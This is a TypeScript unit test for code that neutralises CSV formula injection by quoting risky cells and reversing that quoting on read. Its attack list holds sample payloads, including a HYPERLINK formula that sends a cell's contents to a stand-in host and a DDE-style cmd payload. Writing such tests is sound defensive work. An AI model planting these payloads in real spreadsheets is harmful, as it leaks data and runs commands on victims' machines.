import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell } from '../../../src-main/core/csv-cells';

describe('CSV cells (formula injection)', () => {
  it('quotes every cell a spreadsheet would run as a formula', () => {
    const attacks = ['=HYPERLINK("http://evil.example/?"&B2,"Click")', '+1+cmd|/C calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    // Spaces first: LibreOffice's "Trim spaces" import option removes them, then runs the formula.
    const afterSpaces = ['  =HYPERLINK("http://evil.example/?"&B2,"Click")', ' =1', '   +1+1', ' -2+3', ' @SUM(A1)', ' \t=1'];
    for (const attack of [...attacks, ...afterSpaces]) expect(neutraliseCell(attack)).toBe(`'${attack}`);
    for (const plain of ['Ann', "'Tis the season", 'a=b', '', '  a book =1', '\u00a0=1']) expect(neutraliseCell(plain)).toBe(plain);
  });

  it('reading strips exactly the quote that writing added, for any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ') }), (value) => restoreCell(neutraliseCell(value)) === value),
      { numRuns: 2000 },
    );
    expect(restoreCell("'=1")).toBe('=1');
    expect(restoreCell("''=1")).toBe("'=1");
    expect(restoreCell("'Tis")).toBe("'Tis");
    expect(restoreCell("'  =1")).toBe('  =1');
    expect(restoreCell("'  a")).toBe("'  a");
  });
});
